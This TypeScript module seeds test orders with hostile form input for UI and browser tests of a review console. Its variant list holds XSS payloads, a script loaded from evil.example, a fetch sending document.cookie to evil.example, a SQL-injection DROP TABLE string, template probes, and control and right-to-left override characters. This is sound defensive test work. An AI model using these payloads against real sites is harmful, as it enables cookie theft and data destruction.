import { runChecks } from '../../src/domain/checks/runChecks';
import type { Order } from '../../src/domain/types';
import { flattenStrings } from './compact';
import type { OrderCore } from './core';
import type { OrderPlan } from './plan';

/**
 * Applicant-supplied text is untrusted: a handful of seeded orders carry what people (and bots)
 * really type into forms: markup and script, `<img onerror>`, control characters, right-to-left
 * overrides, zero-width characters, emoji and very long strings, in the subject's name, the site's
 * name, the addresses and the remarks. The console must show all of it as text without breaking its
 * layout. Their ids are exported as `hostileOrderIds` for UI and browser tests; they count as
 * defective (`HOSTILE_TEXT` in `seedDefects`): a site name with symbols or control characters fails
 * the site-name check.
 */

export const HOSTILE_ORDER_COUNT = 6;
/** Data sets smaller than this have no hostile orders (they are for focused tests). */
export const HOSTILE_MIN_ORDERS = 300;

interface HostileText {
  subjectName: (name: string) => string;
  siteName: (name: string) => string;
  street: string;
  remark: string;
}

const repeatTo = (text: string, length: number) =>
  text.repeat(Math.ceil(length / text.length)).slice(0, length);

/** The variants, one per hostile order, in this order. */
export const HOSTILE_VARIANTS: readonly HostileText[] = [
  {
    subjectName: (name) => `<script>alert("xss")</script>${name}`,
    siteName: (name) => `<script>alert(1)</script>${name}`,
    street: '科技园路1号</td></tr></table><script src="https://evil.example/x.js"></script>',
    remark: '</textarea><script>fetch("https://evil.example/?c="+document.cookie)</script>',
  },
  {
    subjectName: (name) => `<img src=x onerror=alert(1)>${name}`,
    siteName: (name) => `${name}<img src=x onerror="alert('site')">`,
    street: '"><svg onload=alert(document.domain)>建设路8号',
    remark: 'Robert\'); DROP TABLE orders;-- <a href="javascript:alert(1)">点我</a> {{7*7}} ${7*7}',
  },
  {
    subjectName: (name) => `${name}\u0008\u0007`,
    siteName: (name) => `${name.slice(0, 2)}\u0000\u0007${name.slice(2)}\u001b[31m`,
    street: '人民路\t12号\r\n3楼\u000b\u000c',
    remark: '第一行\r\n第二行\u001b[2J\u0000结束\u007f\u0085',
  },
  {
    subjectName: (name) => `\u202e${name}\u202c`,
    siteName: (name) => `\u200b${name}\u202egpj.exe\u202c\u2066\u200d\ufeff`,
    street: '\u202e号01路安长\u202c\u200b\u200c\u200d',
    remark: '\u2067مرحبا\u2069 混排 \u202dLTR\u202c \u061c',
  },
  {
    subjectName: (name) => `🚀${name}🔥`,
    siteName: (name) => `🌸${name}👩‍👩‍👧‍👦🏳️‍🌈`,
    street: '花园路🏠8号 Z̸̡̢͇̹̰a̷̛͔̦l̶̠̓g̵̯̈o̶͈̍',
    remark: '🙂'.repeat(200) + 'e\u0301\u0301\u0301',
  },
  {
    subjectName: (name) => repeatTo(`${name}分公司第一事业部`, 200),
    siteName: (name) => `${repeatTo(`${name}与山间读书笔记和旅行摄影分享`, 499)}！`,
    street: repeatTo('高新技术产业开发区科技创新大道中段创业服务中心大楼', 300),
    remark: repeatTo('这是一段非常长的备注，没有任何空格或换行可以断开。', 1000),
  },
];

/** Which plans carry hostile text: the last suitable pending orders (units, first revision). */
export function chooseHostile(plans: readonly OrderPlan[]): Map<string, number> {
  const chosen = new Map<string, number>();
  if (plans.length < HOSTILE_MIN_ORDERS) return chosen;
  const suitable = plans
    .filter(
      (plan) =>
        plan.status === 'pending_review' &&
        plan.defect === null &&
        plan.filerKind === 'organization' &&
        plan.revisions.length === 1,
    )
    .sort((a, b) => b.index - a.index);
  suitable.slice(0, HOSTILE_ORDER_COUNT).forEach((plan, i) => chosen.set(plan.id, i));
  return chosen;
}

/** The core with a hostile subject and first site name (search and lists see them). */
export function hostileCore(core: OrderCore, variant: number): OrderCore {
  const text = HOSTILE_VARIANTS[variant];
  if (!text) return core;
  const [first, ...rest] = core.sites;
  return {
    ...core,
    subjectName: text.subjectName(core.subjectName),
    sites: first ? [{ ...first, name: text.siteName(first.name) }, ...rest] : core.sites,
  };
}

/** The full order with hostile addresses and remarks; its checks run again on what it now says. */
export function hostileOrder(order: Order, variant: number): Order {
  const text = HOSTILE_VARIANTS[variant];
  if (!text) return order;
  const { mailingAddress } = order.subject;
  const locality = order.subject.certificateAddress.slice(
    0,
    order.subject.certificateAddress.length - mailingAddress.street.length,
  );
  const changed: Order = {
    ...order,
    subject: {
      ...order.subject,
      certificateAddress: `${locality}${text.street}`,
      mailingAddress: { ...mailingAddress, street: text.street },
      remark: text.remark,
    },
    websites: order.websites.map((site, i) => (i === 0 ? { ...site, remark: text.remark } : site)),
  };
  changed.checks = runChecks(changed);
  return flattenStrings(changed);
}

/** The hostile orders of the current data set (order id → variant). */
export const hostileOrderIds = new Map<string, number>();
